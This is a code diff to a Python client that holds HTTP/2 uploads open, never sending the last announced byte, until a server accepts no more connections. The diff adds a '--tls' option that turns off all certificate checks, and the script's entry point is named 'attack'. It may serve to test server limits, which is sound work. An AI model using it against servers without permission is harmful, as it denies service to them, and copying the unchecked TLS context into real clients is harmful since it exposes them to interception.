@@ -5,7 +5,8 @@
 
 A client that heeds flow control. Every request announces so many bytes, of which the last is never sent. `--strange`:
 calls of a method that asks for no credential and of one that does, with a header field of 3 KB each, and half a header
-block in the end. Once the server lets in no more, the number of bytes sent is written, and the connections stay.
+block in the end. `--tls`: any certificate is accepted. Once the server lets in no more, the number of bytes sent is
+written, and the connections stay.
 """
 
 from __future__ import annotations
@@ -13,6 +14,7 @@ from __future__ import annotations
 import argparse
 import asyncio
 import json
+import ssl
 from contextlib import suppress
 from pathlib import Path
 from typing import Final
@@ -99,15 +101,27 @@ class Uploads:
         await self._writer.drain()
 
 
+def unchecked() -> ssl.SSLContext:
+    """TLS with whoever answers."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
 async def attack(wanted: argparse.Namespace) -> None:
     """Open all, report, and stay."""
     loop = asyncio.get_running_loop()
     host, _, port = wanted.address.rpartition(":")
+    context = unchecked() if wanted.tls else None
     made: list[Uploads] = []
     running = []
     for first in range(0, wanted.connections, OPENED_TOGETHER):
         together = min(OPENED_TOGETHER, wanted.connections - first)
-        streams = await asyncio.gather(*(asyncio.open_connection(host, int(port)) for _ in range(together)))
+        streams = await asyncio.gather(
+            *(asyncio.open_connection(host, int(port), ssl=context) for _ in range(together))
+        )
         opened = [Uploads(reader, writer, wanted) for reader, writer in streams]
         running += [asyncio.create_task(one.run()) for one in opened]
         made += opened
@@ -135,6 +149,7 @@ def main() -> None:
     parser.add_argument("--bytes", type=int, default=16_000_000)
     parser.add_argument("--key", default="")
     parser.add_argument("--strange", action="store_true")
+    parser.add_argument("--tls", action="store_true")
     asyncio.run(attack(parser.parse_args()))
 
 
